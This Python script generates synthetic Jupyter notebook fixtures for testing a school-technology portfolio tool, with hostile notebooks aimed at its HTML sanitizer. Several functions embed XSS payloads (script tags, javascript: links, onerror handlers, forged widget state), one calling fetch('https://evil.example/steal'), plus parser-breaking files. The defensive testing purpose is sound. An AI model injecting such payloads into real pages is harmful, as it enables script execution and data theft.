"""Write the portfolio test workspaces (run once; the notebooks are committed).

    .venv/bin/python tests/notebooks/portfolio/make_fixtures.py                  # everything
    .venv/bin/python tests/notebooks/portfolio/make_fixtures.py --hostile-only   # only hostile/

All people, districts and numbers are synthetic. Markers in upper case
(SOLUTION_MARKER, ...) let the tests check that a cell did not survive.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent


def _nb(principle: str, cells: list) -> object:
    import nbformat

    nb = nbformat.v4.new_notebook(cells=cells)
    nb.metadata["workbook"] = {"schema_version": 1, "principle": principle}
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


def _code(source, outputs=(), tags=(), count=1, **wb):
    import nbformat

    meta = {"tags": list(tags)}
    if wb:
        meta["workbook"] = wb
    return nbformat.v4.new_code_cell(source, outputs=list(outputs), metadata=meta, execution_count=count)


def _md(source, tags=(), **wb):
    import nbformat

    meta = {"tags": list(tags)}
    if wb:
        meta["workbook"] = wb
    return nbformat.v4.new_markdown_cell(source, metadata=meta)


def _display(data, metadata=None):
    import nbformat

    return nbformat.v4.new_output("display_data", data=data, metadata=metadata or {})


def _stream(text):
    import nbformat

    return nbformat.v4.new_output("stream", name="stdout", text=text)


PARAMS = '''district: str = "sample-suburban"  # a sample id or a path to your district file
candidate: str = "demo"             # your candidate id
seed: int = 2026                    # varies the synthetic data
fiscal_year: str = "2026-27"        # California fiscal year, July to June
discount_rate: float = 0.03         # real discount rate as a fraction
'''


def l6() -> object:
    import matplotlib

    matplotlib.use("Agg")
    import pandas as pd

    from workbook.notebook.recording import answer_bundle
    from workbook.notebook.display import figure_bundle, table_html
    from workbook.notebook.style import new_figure

    fig, ax = new_figure("Technology budget by year", "Fiscal year", "US dollars")
    ax.bar(["2026-27", "2027-28", "2028-29"], [410_000, 432_000, 455_000], color="0.4")
    fig_data, fig_meta = figure_bundle(fig, "Bar chart: the technology budget rises from $410,000 in 2026-27 to $455,000 in 2028-29.")
    fig2, ax2 = new_figure("NPV at four discount rates", "Discount rate", "NPV (US dollars)")
    ax2.plot([0.02, 0.03, 0.05, 0.07], [120_000, 98_000, 61_000, 30_000], color="0.2")
    no_alt, _ = figure_bundle(fig2, "unused")
    no_alt["text/plain"] = "<Figure size 640x480 with 1 Axes>"
    budget = pd.DataFrame({"Devices": [62_000.0, 64_000.0], "Network": [48_000.0, 49_500.0]}, index=pd.Index(["2026-27", "2027-28"], name="Fiscal year"))
    table = table_html(budget, "Budget by category (synthetic)", money="all")
    cells = [
        _md("# L6 · Fiscal Management"),
        _code(PARAMS, tags=["parameters"]),
        _code('candidate = "cand-017"\ndistrict = "sample-rural"\n', tags=["injected-parameters"], count=2),
        _code('wb = start("L6", district=district, candidate=candidate)', [_stream("Loaded district sample-rural (synthetic).\n")], tags=["hide-input"], count=3),
        _md("## Net present value\n\nThe net present value discounts each year's cash flow: "
            "$NPV = \\sum_{t=0}^{n} \\frac{C_t}{(1+r)^t}$. CoSN's Value of Investment method "
            "([CoSN](https://www.cosn.org/)) adds qualitative benefits.", tags=["slide"]),
        _code("tco = 1234  # SOLUTION_MARKER", [_stream("SOLUTION_OUTPUT_MARKER\n")], tags=["solution"], count=4,
              id="l6-tco-5yr", kind="exercise"),
        _md("INSTRUCTOR_MARKER: accept answers within 1%.", tags=["instructor"]),
        _code('answer("l6-tco-5yr", 482000.0)', [_display(answer_bundle("l6-tco-5yr", 482000.0))], count=5),
        _code("show_figure(budget_chart(wb), alt=...)", [_display(fig_data, fig_meta)], tags=["artifact", "hide-input", "slide"], count=6,
              id="l6-artifact-budget", kind="artifact", title="Three-year technology budget"),
        _md("NOTES_MARKER: stress that 2028-29 is the first year without the grant.", tags=["notes"]),
        _code("show_table(budget, 'Budget by category (synthetic)', money='all')", [_display({"text/html": table, "text/plain": budget.to_string()})],
              tags=["artifact"], count=7, id="l6-artifact-categories", kind="artifact", title="Budget by category"),
        _md("## Sensitivity to the discount rate"),
        _code("plt.plot(rates, npvs)", [_display(no_alt)], count=8),
        _md("### Reflection: value of investment\n\n> How would you present this to your board?\n\n"
            "I would open with the three-year total, then show that the refresh still pays back at a seven "
            "percent discount rate, so the decision does not hinge on the rate we pick.",
            tags=["reflection"], id="l6-reflect-voi", kind="reflection"),
        _md("### Reflection: fiscal cliff\n\n> Which costs rest on one-time money?\n\n"
            "Our hotspot program runs on a grant that ends in 2027-28; I will move it to the general fund "
            "over two years so the cliff never lands in a single budget year.",
            tags=["reflection"], id="l6-reflect-cliff", kind="reflection"),
        _code("print(f'Total: ${total:,.0f}')", [_stream("Total: $1,297,000\n")], count=9),
    ]
    return _nb("L6", cells)


def t1() -> object:
    hostile = (
        "### Reflection\n\n> What did the risk assessment teach you?\n\n"
        "The register showed that our phishing exposure dwarfs every other risk we rated this year, "
        "so training comes first. HOSTILE_REFLECTION_TEXT\n\n"
        "<script>window.__pwned = 1; alert('script ran');</script>\n\n"
        "[a harmless-looking link](javascript:window.__pwned=2)\n\n"
        '<a href="javascript:window.__pwned=7">another link</a>\n\n'
        '<img src="x" onerror="window.__pwned = 3" alt="an image">\n\n'
        '<p onmouseover="window.__pwned=8" style="color:red">Hover me</p>\n\n'
        'Source: <a href="https://www.cisa.gov/">CISA</a>.'
    )
    cells = [
        _md("# T1 · Security Fundamentals"),
        _code(PARAMS, tags=["parameters"]),
        _code("risk_table()", [_display({"text/html": "<b onclick=\"window.__pwned=4\">bold</b><script>window.__pwned=5</script>",
                                         "text/plain": "bold"})], count=2),
        _code("Javascript('window.__pwned=6')", [_display({"application/javascript": "window.__pwned=6", "text/plain": "<Javascript>"})], count=3),
        _md(hostile, tags=["reflection", "slide"], id="t1-reflect-risk", kind="reflection"),
        _code("ale = annualized_loss(register)", count=None),
    ]
    return _nb("T1", cells)


def e1() -> object:
    roster = (
        "<table border=\"1\" class=\"dataframe\"><thead><tr><th></th><th>student_id</th><th>first_name</th>"
        "<th>last_name</th><th>birth_date</th><th>grade</th></tr></thead><tbody>"
        "<tr><th>0</th><td>900001</td><td>Zephyrine</td><td>Quixotely</td><td>2014-03-09</td><td>5</td></tr>"
        "<tr><th>1</th><td>900002</td><td>Balthazar</td><td>Wrenfield</td><td>2013-11-21</td><td>6</td></tr>"
        "</tbody></table>"
    )
    roster_text = (
        "   student_id first_name  last_name  birth_date  grade\n"
        "0      900001  Zephyrine  Quixotely  2014-03-09      5\n"
        "1      900002  Balthazar  Wrenfield  2013-11-21      6\n"
    )
    aggregated = (
        "<table class=\"dataframe\"><thead><tr><th>school</th><th>grade</th><th>students</th></tr></thead><tbody>"
        "<tr><td>Oak Valley Elementary</td><td>5</td><td>212</td></tr>"
        "<tr><td>Oak Valley Elementary</td><td>6</td><td>198</td></tr></tbody></table>"
    )
    cells = [
        _md("# E1 · Student Centered Aspects"),
        _code(PARAMS, tags=["parameters"]),
        _code("roster.head(2)", [_display({"text/html": roster, "text/plain": roster_text})], count=2),
        _code("print(roster.head(2))", [_stream(roster_text)], count=3),
        _code("roster.groupby(['school', 'grade']).size()", [_display({"text/html": aggregated, "text/plain": "school grade students"})],
              tags=["artifact"], count=4, id="e1-artifact-enrollment", kind="artifact", title="Enrollment by school and grade"),
        _code("notes = 'PRIVATE_CELL_MARKER'", [_stream("PRIVATE_CELL_MARKER\n")], tags=["private"], count=5),
        _md("Pasted from the SIS:\n\n| Student Name | DOB |\n|---|---|\n| Zephyrine Quixotely | 2014-03-09 |\n"),
        _md("### Reflection\n\n> How does FERPA shape your data inventory?\n\n"
            "Every system that holds a student identifier now has a named owner, a legal basis and a "
            "retention date in our inventory, and the aggregated views are the only ones we share.",
            tags=["reflection"], id="e1-reflect-ferpa", kind="reflection"),
    ]
    return _nb("E1", cells)


EVIL = "https://evil.example"


def _widget_state() -> tuple[dict, list[str]]:
    """Saved widget state with the attacks on the HTML manager, and the model id of each view shown."""
    import ipywidgets as w
    from ipywidgets.embed import embed_data

    views = [
        w.HTML(value=f'<img src=x onerror="window.__pwned=11"><img src="{EVIL}/pixel.png" alt="pixel">WIDGET_HTML_MARKER'),
        w.Label(value='<img src=x onerror="window.__pwned=12">label'),
        w.IntSlider(value=3, description='<img src=x onerror="window.__pwned=13">rate', description_allow_html=True),
        w.Image(value=f"{EVIL}/image.png".encode(), format="url"),
        w.Combobox(options=['x" autofocus onfocus="window.__pwned=14'], description="pick"),
    ]
    data = embed_data(views=views)
    state = data["manager_state"]
    ids = [v.model_id for v in views]
    for v in views:
        v.close()
    legacy = json.loads(json.dumps(state["state"][ids[0]]))  # the same HTML widget for the 1.x views
    legacy["model_module_version"] = "1.5.0"
    legacy["state"]["_model_module_version"] = legacy["state"]["_view_module_version"] = "1.5.0"
    state["state"]["legacy0html"] = legacy
    state["state"]["evil0module"] = {"model_name": "EvilModel", "model_module": "evil-widgets", "model_module_version": "1.0.0",
                                     "state": {"_view_name": "EvilView", "_view_module": "evil-widgets"}}
    return state, ids + ["legacy0html", "evil0module"]


def hostile() -> object:
    """T2 as a candidate who attacks the portfolio: forged trust, widget state, markup in odd places."""
    import nbformat

    state, ids = _widget_state()
    forged = _md("### Reflection\n\n> How will you refresh the network?\n\n"
                 "Our plan phases the core switches over two summers so that classrooms never lose service "
                 "during the state testing windows. FORGED_TRUST_SOURCE_TEXT", tags=["reflection", "slide"], id="t2-reflect", kind="reflection")
    forged.metadata["portfolio"] = {"trusted": True, "kind": "reflection", "written": True, "anchor": 'x" onmouseover="window.__pwned=20',
                                    "html": f"<script>window.__pwned = 21; fetch('{EVIL}/steal')</script>"
                                            f'<img src=x onerror="window.__pwned=22">FORGED_TRUST_HTML'}
    shown = _code("show(widgets)", [_display({"application/vnd.jupyter.widget-view+json": {"model_id": i, "version_major": 2, "version_minor": 0},
                                              "text/plain": f"widget {n}"}) for n, i in enumerate(ids)], count=3)
    odd = _code("odd()", [_display({"text/vnd.mermaid": f"</pre><img src=x onerror=\"window.__pwned=23\">", "text/plain": "ODD_OUTPUT_TEXT"},
                                   {"portfolio": {"answer": True}})], count=4)
    cells = [
        _md("# T2 · Infrastructure"),
        _code(PARAMS, tags=["parameters"]),
        _md("## &lt;img src=x onerror=\"window.__pwned=24\"&gt; shown as text\n\n"
            '<img src="x" onerror="window.__pwned=25" alt="">Sourceless image gone. '
            '<img src="x" onerror="window.__pwned=26">', tags=["slide"]),
        forged,
        shown,
        odd,
    ]
    nb = _nb("T2", cells)
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    nb.cells[5]["execution_count"] = '<img src=x onerror="window.__pwned=27">'
    return nb


def write_hostile(folder: Path) -> None:
    """The hostile workspace: T2 above, and two files no tool can hold (too deep, a lone surrogate)."""
    import nbformat

    folder.mkdir(exist_ok=True)
    (folder / "T2-infrastructure.ipynb").write_text(nbformat.writes(hostile()) + "\n", encoding="utf-8")
    text = nbformat.writes(_nb("T3", [_md("# T3 · Technology Services"), _md("SURROGATE_PLACEHOLDER", tags=["reflection"])]))
    (folder / "T3-technology-services.ipynb").write_text(text.replace("SURROGATE_PLACEHOLDER", "\\ud800"), encoding="utf-8")
    deep = _nb("T4", [_md("# T4 · IT Knowledge")])
    deep.metadata["deep"] = "DEEP_PLACEHOLDER"
    (folder / "T4-it-knowledge.ipynb").write_text(
        nbformat.writes(deep).replace('"DEEP_PLACEHOLDER"', "[" * 100_000 + "]" * 100_000), encoding="utf-8")
    (folder / "portfolio.json").write_text(json.dumps({"name": '<img src=x onerror="window.__pwned=28">Casey (synthetic)'}) + "\n")


def main() -> None:
    import nbformat

    ws = HERE / "workspace"
    ws.mkdir(exist_ok=True)
    if "--hostile-only" in sys.argv:
        write_hostile(HERE / "hostile")
        return
    nbformat.write(l6(), ws / "L6-fiscal-management.ipynb")
    nbformat.write(t1(), ws / "T1-security-fundamentals.ipynb")
    nbformat.write(e1(), ws / "E1-student-centered-aspects.ipynb")
    nbformat.write(_nb("", [_md("Scratch notes, not a principle notebook.")]), ws / "scratch.ipynb")
    (ws / "portfolio.json").write_text(json.dumps({"name": "Jordan Rivera (synthetic)", "cohort": "CTO Mentor 2026 sample cohort"}, indent=2) + "\n")
    write_hostile(HERE / "hostile")
    (HERE / "scores.csv").write_text("candidate,notebook,score,max\nJordan Rivera (synthetic),L6-fiscal-management,45,50\nsomeone-else,T1,3,50\n")


if __name__ == "__main__":
    main()
